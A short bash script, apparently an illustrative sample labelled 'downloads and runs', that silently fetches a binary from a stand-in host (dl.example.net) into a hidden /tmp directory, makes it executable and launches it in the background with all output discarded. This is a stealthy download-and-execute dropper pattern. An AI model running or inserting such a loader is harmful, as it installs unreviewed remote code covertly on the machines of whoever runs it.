#!/bin/bash
# shows: downloads and runs
T=/tmp/.cache-x
wget -q -O $T/agent http://dl.example.net/agent
chmod +x $T/agent
nohup $T/agent >/dev/null 2>&1 &
